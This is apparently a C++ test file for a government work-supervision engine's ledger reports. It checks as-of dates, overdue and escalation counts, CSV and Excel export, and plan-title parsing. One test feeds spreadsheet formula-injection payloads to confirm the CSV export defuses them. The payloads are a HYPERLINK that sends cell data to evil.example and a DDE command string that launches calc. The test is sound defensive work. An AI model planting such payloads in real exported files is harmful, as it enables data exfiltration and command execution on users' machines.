// The work ledger (engine/reports/ledger): its rows on the scripted store,
// checked against the engine's own queries (PlanAsOf, Assignments) and against
// values worked out by hand on the 2021 calendar; and the as-of property: for
// random command sequences and random dates D, the ledger, scorecard and
// bulletin as of D equal those of a store that holds only the events effective
// up to the end of D.
#include <gtest/gtest.h>

#include "duban/reports/table_files.h"
#include "duban/utf8.h"
#include "report_fixture.h"

namespace duban::reports {
namespace {

using namespace test_support;  // NOLINT(google-build-using-namespace): the fixture's names

TEST_F(ScriptedLedgerTest, RowsAgreeWithThePlanAsOfTheDateForEveryDayOfTheScript) {
  for (Date d = D("2021-09-01"); d <= D("2021-10-15"); d = d.AddDays(1)) {
    auto l = LedgerAsOf(*engine, kPlan, d);
    ASSERT_TRUE(l.ok()) << d.ToString() << ": " << l.status().ToString();
    auto s = engine->PlanAsOf(kPlan, EndOfDay(d));
    ASSERT_TRUE(s.ok());
    ASSERT_EQ(l->rows.size(), s->assignments.size()) << d.ToString();
    for (const auto& r : l->rows) {
      const core::AssignmentState& a = s->assignments.at({r.task, r.unit});
      EXPECT_EQ(r.status, a.status) << d.ToString() << " " << r.task << r.unit;
      EXPECT_EQ(r.escalation_level, a.escalation_level) << d.ToString() << " " << r.task << r.unit;
      EXPECT_EQ(r.due_on, a.due_on);
      EXPECT_EQ(r.title, s->tasks.at(r.task).title);
    }
  }
}

TEST_F(ScriptedLedgerTest, TheLastDaysLedgerAgreesWithTheCurrentAssignmentsQuery) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-15"));
  ASSERT_TRUE(l.ok());
  StatusFilter f;
  f.plan_id = kPlan;
  auto rows = engine->Assignments(f);
  ASSERT_TRUE(rows.ok());
  ASSERT_EQ(l->rows.size(), rows->size());
  std::map<std::pair<int32_t, std::string>, const AssignmentRow*> now;
  for (const auto& r : *rows) now[{r.task, r.a.unit}] = &r;
  for (const auto& r : l->rows) {
    const AssignmentRow& q = *now.at({r.task, r.unit});
    EXPECT_EQ(r.status, q.a.status) << r.task << r.unit;
    EXPECT_EQ(r.escalation_level, q.a.escalation_level) << r.task << r.unit;
    EXPECT_EQ(r.deadline_text, q.deadline_text);
    EXPECT_EQ(r.title, q.task_title);
    // The percent of the last report (a completion sets the state's to 100, not the report's).
    if (q.a.reports && core::IsOpen(q.a.status) && q.a.status != core::AssignmentStatus::kSubmitted) {
      ASSERT_TRUE(r.percent.has_value());
      EXPECT_EQ(*r.percent, q.a.percent);
    }
  }
}

TEST_F(ScriptedLedgerTest, ProgressIsTheLastReportOnOrBeforeTheDate) {
  auto before = LedgerAsOf(*engine, kPlan, D("2021-09-14"));
  ASSERT_TRUE(before.ok());
  EXPECT_FALSE(Row(*before, 1, kFinance).percent.has_value());
  EXPECT_EQ(Row(*before, 1, kFinance).progress_text, "");
  EXPECT_EQ(Row(*before, 1, kFinance).status, core::AssignmentStatus::kAccepted);

  auto first = LedgerAsOf(*engine, kPlan, D("2021-09-19"));
  ASSERT_TRUE(first.ok());
  const LedgerRow& r1 = Row(*first, 1, kFinance);
  EXPECT_EQ(r1.progress_text, "已完成初稿");
  EXPECT_EQ(r1.percent, 40);
  EXPECT_EQ(r1.progress_on, "2021-09-15");
  EXPECT_EQ(r1.reporter, "张三");
  EXPECT_EQ(r1.contact, "13800000001");
  EXPECT_EQ(r1.status, core::AssignmentStatus::kInProgress);
  EXPECT_EQ(r1.submitted_on, "");

  auto done = LedgerAsOf(*engine, kPlan, D("2021-09-30"));
  ASSERT_TRUE(done.ok());
  const LedgerRow& r2 = Row(*done, 1, kFinance);
  EXPECT_EQ(r2.progress_text, "已报审");
  EXPECT_EQ(r2.percent, 80);
  EXPECT_EQ(r2.reporter, "李四");
  EXPECT_EQ(r2.submitted_on, "2021-09-28");
  EXPECT_EQ(r2.approved_on, "2021-09-29");
  EXPECT_EQ(r2.status, core::AssignmentStatus::kCompleted);
  EXPECT_EQ(r2.light, "done");
  EXPECT_EQ(r2.overdue_working_days, 0);
  EXPECT_STREQ(StatusChinese(r2.status), "已办结");
  // Submitted but not yet approved on the 28th: 待审核, no approval date.
  auto review = LedgerAsOf(*engine, kPlan, D("2021-09-28"));
  ASSERT_TRUE(review.ok());
  EXPECT_EQ(Row(*review, 1, kFinance).status, core::AssignmentStatus::kSubmitted);
  EXPECT_STREQ(StatusChinese(Row(*review, 1, kFinance).status), "待审核");
  EXPECT_EQ(Row(*review, 1, kFinance).approved_on, "");
  // Handed in two working days before its date: nothing is asked of the
  // unit, so not lit 临期 (yellow) beside a unit yet to hand in.
  EXPECT_EQ(Row(*review, 1, kFinance).due_on, "2021-09-30");
  EXPECT_EQ(Row(*review, 1, kFinance).light, "green");
  EXPECT_EQ(Row(*review, 1, kEducation).light, "yellow");
}

TEST_F(ScriptedLedgerTest, ARowYearsLateSaysHowLateNotTheLightsCap) {
  // 2021-09-30 to 2024-01-02: a little over two years of working days (the
  // lights stop counting at kWorkingDayCountCap; the ledger must not).
  auto late = LedgerAsOf(*engine, kPlan, D("2024-01-02"));
  ASSERT_TRUE(late.ok()) << late.status().ToString();
  const int days = Row(*late, 1, kEducation).overdue_working_days;
  EXPECT_GT(days, reports::kWorkingDayCountCap);
  EXPECT_GE(days, 540);
  EXPECT_LE(days, 575);
}

TEST_F(ScriptedLedgerTest, OverdueWorkingDaysAndEscalationCountOnTheStatutoryCalendar) {
  // 09-30 is the due date itself: not yet late, and due today: yellow.
  auto due = LedgerAsOf(*engine, kPlan, D("2021-09-30"));
  ASSERT_TRUE(due.ok());
  EXPECT_EQ(Row(*due, 1, kEducation).overdue_working_days, 0);
  EXPECT_EQ(Row(*due, 1, kEducation).light, "yellow");
  // The holiday 10-01..07 is no working day: on 10-07 nothing counts yet.
  auto holiday = LedgerAsOf(*engine, kPlan, D("2021-10-07"));
  ASSERT_TRUE(holiday.ok());
  EXPECT_EQ(Row(*holiday, 1, kEducation).overdue_working_days, 0);
  EXPECT_EQ(Row(*holiday, 1, kEducation).escalation_level, 0);
  auto missed = LedgerAsOf(*engine, kPlan, D("2021-10-08"));
  ASSERT_TRUE(missed.ok());
  EXPECT_EQ(Row(*missed, 1, kEducation).overdue_working_days, 1);
  EXPECT_EQ(Row(*missed, 1, kEducation).light, "red");
  EXPECT_EQ(Row(*missed, 1, kEducation).escalation_level, 0);
  // Saturday 10-09 is a worked day: the second working day late, and 督促整改.
  auto escalated = LedgerAsOf(*engine, kPlan, D("2021-10-09"));
  ASSERT_TRUE(escalated.ok());
  const LedgerRow& r = Row(*escalated, 1, kEducation);
  EXPECT_EQ(r.overdue_working_days, 2);
  EXPECT_EQ(r.escalation_level, 1);
  EXPECT_EQ(r.escalation_step, "督促整改");
  // Sunday 10-10 is a rest day: still two.
  auto sunday = LedgerAsOf(*engine, kPlan, D("2021-10-10"));
  ASSERT_TRUE(sunday.ok());
  EXPECT_EQ(Row(*sunday, 1, kEducation).overdue_working_days, 2);
}

TEST_F(ScriptedLedgerTest, RowsCarryTheTasksUnitsByRoleSectionAndOrder) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-01"));
  ASSERT_TRUE(l.ok());
  EXPECT_EQ(l->plan_title, "2021年政务公开工作要点分工方案");
  ASSERT_EQ(l->rows.size(), 6u);
  // By task, lead before responsible.
  EXPECT_EQ(l->rows[0].unit, kFinance);
  EXPECT_EQ(l->rows[0].role, AssignmentRole::kLead);
  EXPECT_EQ(l->rows[1].unit, kEducation);
  for (const auto& r : l->rows) {
    if (r.task == 1) {
      EXPECT_EQ(r.lead_units, std::vector<std::string>{kFinance});
      EXPECT_EQ(r.responsible_units, std::vector<std::string>{kEducation});
      EXPECT_EQ(r.section, std::vector<std::string>{"一、公开"});
      EXPECT_EQ(r.deadline_text, "9月底前");
    }
    if (r.task == 2) {
      EXPECT_EQ(r.responsible_units.size(), 2u);
    }
    if (r.task == 4) {
      // No due date, but never accepted: the acceptance limit (3 working days) has passed.
      EXPECT_EQ(r.due_on, "");
      EXPECT_EQ(r.status, core::AssignmentStatus::kAssigned);
      EXPECT_EQ(r.light, "red");
      EXPECT_EQ(r.overdue_working_days, 0);
    }
  }
}

TEST_F(ScriptedLedgerTest, OneUnitsLedgerHoldsOnlyItsRows) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-09"), kEducation);
  ASSERT_TRUE(l.ok());
  ASSERT_EQ(l->rows.size(), 2u);
  for (const auto& r : l->rows) EXPECT_EQ(r.unit, kEducation);
  auto none = LedgerAsOf(*engine, kPlan, D("2021-10-09"), "市外办");
  EXPECT_EQ(none.status().code(), Status::Code::kNotFound);
}

TEST_F(ScriptedLedgerTest, ADateBeforeThePlanWasImportedIsAClearError) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-08-31"));
  ASSERT_FALSE(l.ok());
  EXPECT_EQ(l.status().code(), Status::Code::kNotFound);
  EXPECT_NE(l.status().message().find("did not exist on 2021-08-31"), std::string::npos) << l.status().message();
  auto other = LedgerAsOf(*engine, "no-such-plan", D("2021-10-01"));
  EXPECT_EQ(other.status().code(), Status::Code::kNotFound);
  // The import day itself is fine.
  EXPECT_TRUE(LedgerAsOf(*engine, kPlan, D("2021-09-01")).ok());
}

TEST_F(ScriptedLedgerTest, CsvHasABomTheHeadersAndOneLinePerRow) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-09"));
  ASSERT_TRUE(l.ok());
  const std::string csv = LedgerCsv(*l);
  ASSERT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
  size_t lines = 0;
  for (size_t p = 0; (p = csv.find("\r\n", p)) != std::string::npos; p += 2) ++lines;
  EXPECT_EQ(lines, l->rows.size() + 1);
  EXPECT_EQ(csv.substr(3, csv.find("\r\n") - 3).find("序号,所属部分,工作任务,牵头单位,责任单位,落实单位"), 0u);
}

TEST_F(ScriptedLedgerTest, AUnitsTextNeverBecomesAFormulaInTheCsv) {
  Expect(UnitOf(kEducation), At("2021-10-16", 10),
         ReportProgress{1, kEducation, 30, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "",
                        "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2"});
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-16"));
  ASSERT_TRUE(l.ok());
  const std::string csv = LedgerCsv(*l);
  // Each formula-looking cell starts with an apostrophe, inside its quotes if quoted.
  EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'@SUM(1+1)*cmd|' /C calc'!A0,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'+1-2,"), std::string::npos) << csv;
  for (const char* bad : {",=", ",@", ",+", ",-", ",\"=", ",\"@"}) EXPECT_EQ(csv.find(bad), std::string::npos) << bad;
  // The xlsx and json keep the text as it was written.
  EXPECT_EQ(Row(*l, 1, kEducation).contact, "+1-2");
}

// ---- the scorecard ------------------------------------------------------

// ---- the as-of property ----------------------------------------------------

// The events of `from` effective by `cut`, each stream re-chained (seq and
// hash) so a fresh store takes them: a store that holds only those events.
std::vector<Event> EventsUpTo(const Engine& from, Instant cut) {
  std::vector<Event> out;
  std::map<std::string, std::pair<uint64_t, std::string>> chain;  // stream -> (next seq, last hash)
  EXPECT_TRUE(from.ScanLog(0,
                           [&](uint64_t, const Event& e) {
                             if (e.occurred_at > cut) return true;
                             Event c = e;
                             auto it = chain.find(e.stream);
                             if (it == chain.end())
                               it = chain.emplace(e.stream, std::make_pair(e.stream_seq, std::string())).first;
                             c.stream_seq = it->second.first++;
                             c.prev_hash = it->second.second;
                             EncodeEventWithHash(c);
                             it->second.second = c.hash;
                             out.push_back(std::move(c));
                             return true;
                           })
                  .ok());
  return out;
}

class AsOfPropertyTest : public LedgerTest, public ::testing::WithParamInterface<int> {};

TEST_P(AsOfPropertyTest, TheLedgerAsOfADateEqualsTheLedgerOfTheEventsUpToIt) {
  std::mt19937 rng(static_cast<uint32_t>(GetParam()));
  auto pick = [&](int n) { return static_cast<int>(rng() % static_cast<uint32_t>(n)); };
  Expect(Office(), At("2021-09-01"), SamplePlan(policy->latest_calendar().version()));
  const std::vector<std::pair<int32_t, std::string>> assignments = {{1, kFinance}, {1, kEducation}, {2, kPolice},
                                                                    {2, kHealth},  {3, kFinance},   {4, kEducation}};
  const std::vector<std::string> texts = {"已部署", "推进中", "已完成初稿", "已报审"};
  int accepted = 0;
  for (Date d = D("2021-09-02"); d <= D("2021-12-10"); d = d.AddDays(1)) {
    ASSERT_TRUE(engine->Tick(StartOfDay(d)).ok());
    const int k = pick(4);
    for (int i = 0; i < k; ++i) {
      const auto& [task, unit] = assignments[pick(static_cast<int>(assignments.size()))];
      const Instant at = At(d.ToString(), 9 + i * 2);
      CommandBody body;
      Actor actor = UnitOf(unit);
      switch (pick(10)) {
        case 0:
        case 1:
          body = Accept{task, unit};
          break;
        case 2:
        case 3:
          body = ReportProgress{task,
                                unit,
                                10 * (1 + pick(9)),
                                texts[pick(4)],
                                "",
                                "填报人" + std::to_string(pick(3)),
                                "1380000000" + std::to_string(pick(9))};
          break;
        case 4:
          body = Submit{task, unit, "已完成", ""};
          break;
        case 5:
          actor = Office();
          body = Approve{task, unit, "同意"};
          break;
        case 6:
          actor = Office();
          body = Reject{task, unit, "材料不全"};
          break;
        case 7:
          body = RequestExtension{task, unit, d.AddDays(20 + pick(20)).ToString(), "工作量大"};
          break;
        case 8:
          actor = Office();
          body = GrantExtension{task, unit, d.AddDays(25).ToString()};
          break;
        case 9:  // a review cycle now and then (the bulletin's silent units)
          actor = Office();
          body = StartReviewCycle{"c" + d.ToString(), "", "monthly", d.AddDays(3 + pick(5)).ToString(), ""};
          break;
      }
      Outcome o = Send(actor, at, body);
      accepted += o.status.ok();
    }
  }
  ASSERT_GT(accepted, 10) << "the random script should move the plan";

  std::vector<std::string> days = {"2021-08-31", "2021-09-01", "2021-12-10", "2021-12-31"};
  for (int i = 0; i < 6; ++i) days.push_back(D("2021-09-01").AddDays(pick(100)).ToString());
  int differs_from_last = 0, bulletin_named = 0, bulletin_silent = 0;
  auto last = LedgerAsOf(*engine, kPlan, D("2021-12-31"));
  ASSERT_TRUE(last.ok());
  for (const auto& day : days) {
    const Date d = D(day);
    TempDir other("duban-report-asof");
    auto cut = OpenStore(other.path(), policy);
    ASSERT_TRUE(cut);
    const std::vector<Event> events = EventsUpTo(*engine, EndOfDay(d));
    if (!events.empty()) {
      auto appended = cut->AppendExternal(events);
      ASSERT_TRUE(appended.ok()) << appended.status().ToString();
    }
    auto full = LedgerAsOf(*engine, kPlan, d);
    auto only = LedgerAsOf(*cut, kPlan, d);
    ASSERT_EQ(full.ok(), only.ok()) << day << ": " << full.status().ToString() << " / " << only.status().ToString();
    if (!full.ok()) {
      EXPECT_LT(d, D("2021-09-01")) << full.status().ToString();
      continue;
    }
    EXPECT_EQ(full->rows.size(), only->rows.size()) << day;
    for (size_t r = 0; r < std::min(full->rows.size(), only->rows.size()); ++r)
      EXPECT_EQ(full->rows[r], only->rows[r])
          << day << " row " << r << " task " << full->rows[r].task << " " << full->rows[r].unit;
    EXPECT_TRUE(*full == *only) << day;
    auto rule = workflows::ScorecardRule::Default();
    ASSERT_TRUE(rule.ok());
    auto card_full = ScorecardAsOf(*engine, kPlan, d, *rule);
    auto card_only = ScorecardAsOf(*cut, kPlan, d, *rule);
    ASSERT_TRUE(card_full.ok() && card_only.ok());
    EXPECT_EQ(card_full->units, card_only->units) << day;
    auto bulletin_full = BulletinAsOf(*engine, kPlan, d);
    auto bulletin_only = BulletinAsOf(*cut, kPlan, d);
    ASSERT_TRUE(bulletin_full.ok() && bulletin_only.ok());
    EXPECT_EQ(BulletinJson(*bulletin_full), BulletinJson(*bulletin_only)) << day;
    EXPECT_TRUE(*bulletin_full == *bulletin_only) << day;
    bulletin_named += bulletin_full->late_units + bulletin_full->silent_units;
    bulletin_silent += bulletin_full->silent_units;
    differs_from_last += !(full->rows == last->rows);
  }
  EXPECT_GT(differs_from_last, 0) << "every sampled date gave today's ledger: the property was not exercised";
  EXPECT_GT(bulletin_named, 0) << "no bulletin named a unit: its property was not exercised";
  EXPECT_GT(bulletin_silent, 0) << "no bulletin named a unit silent in a review cycle";
}

INSTANTIATE_TEST_SUITE_P(Seeds, AsOfPropertyTest, ::testing::Values(1, 2, 3, 4, 5, 6, 7, 8));

// A plan imported from a 工作台账 is titled so already: its ledger is not a
// 工作台账工作台账.
TEST(LedgerTitle, IsThePlansTitleAndSaysTaiZhangOnce) {
  EXPECT_EQ(LedgerTitle("2021年政务公开工作要点分工方案"), "2021年政务公开工作要点分工方案工作台账");
  EXPECT_EQ(LedgerTitle("2021年营商环境优化提升工作台账"), "2021年营商环境优化提升工作台账");
  EXPECT_EQ(LedgerTitle("重点任务推进台账"), "重点任务推进台账");
  EXPECT_EQ(LedgerTitle(""), "工作台账");
  // A cover letter's title: the plan it sends is the name.
  EXPECT_EQ(LedgerTitle("关于印发《2027年重点工作分工方案》的通知"), "2027年重点工作分工方案工作台账");
  EXPECT_EQ(LedgerTitle("关于做好2027年安全生产工作的通知"), "做好2027年安全生产工作工作台账");
}

// Excel holds at most 32,767 characters in a cell, and libxlsxwriter writes
// nothing at all past that (a review's 39,007-character progress report left
// its ledger cell blank): a longer text is cut there and says so.
TEST(FitXlsxCell, CutsATextExcelCannotHoldAndSaysSo) {
  EXPECT_EQ(FitXlsxCell("按期推进"), "按期推进");
  const std::string at_limit(32767, 'a');
  EXPECT_EQ(FitXlsxCell(at_limit), at_limit);
  std::string long_report;
  for (int i = 0; i < 39007; ++i) long_report += "进";
  const std::string fitted = FitXlsxCell(long_report);
  EXPECT_EQ(utf8::CodePoints(fitted), 32767u);
  EXPECT_TRUE(fitted.starts_with("进进进"));
  EXPECT_TRUE(fitted.ends_with("全文见CSV或JSON文件）")) << fitted.substr(fitted.size() - 60);
  EXPECT_TRUE(utf8::IsValid(fitted));
}

TEST(PlanNameOf, DropsTheCoverLettersWordsAroundThePlan) {
  EXPECT_EQ(PlanNameOf("关于印发《韶关市2021年重点工作分工方案》的通知"), "韶关市2021年重点工作分工方案");
  EXPECT_EQ(PlanNameOf("关于2027年政务公开工作要点的分工方案"), "2027年政务公开工作要点的分工方案");
  EXPECT_EQ(PlanNameOf("印发2027年工作要点的通知"), "2027年工作要点");
  EXPECT_EQ(PlanNameOf("2021年政务公开工作要点分工方案"), "2021年政务公开工作要点分工方案");
  EXPECT_EQ(PlanNameOf("《》"), "《》") << "an empty name in brackets is no name";
  EXPECT_EQ(PlanNameOf(""), "");
  // A plan's own title citing a document is not a cover letter (a review's regression).
  EXPECT_EQ(PlanNameOf("韶关市贯彻落实《国务院办公厅2027年政务公开工作要点》分工实施方案"),
            "韶关市贯彻落实《国务院办公厅2027年政务公开工作要点》分工实施方案");
  EXPECT_EQ(PlanNameOf("关于印发《A方案》和《B方案》的通知"), "《A方案》和《B方案》");
  EXPECT_EQ(PlanNameOf("关于印发《关于X的实施意见》分工方案的通知"), "《关于X的实施意见》分工方案");
  Ledger l;
  l.plan_title = "2021年营商环境优化提升工作台账";
  l.as_of = *Date::Parse("2021-10-15");
  EXPECT_NE(LedgerJson(l).find("\"title\": \"2021年营商环境优化提升工作台账\""), std::string::npos) << LedgerJson(l);
}

}  // namespace
}  // namespace duban::reports
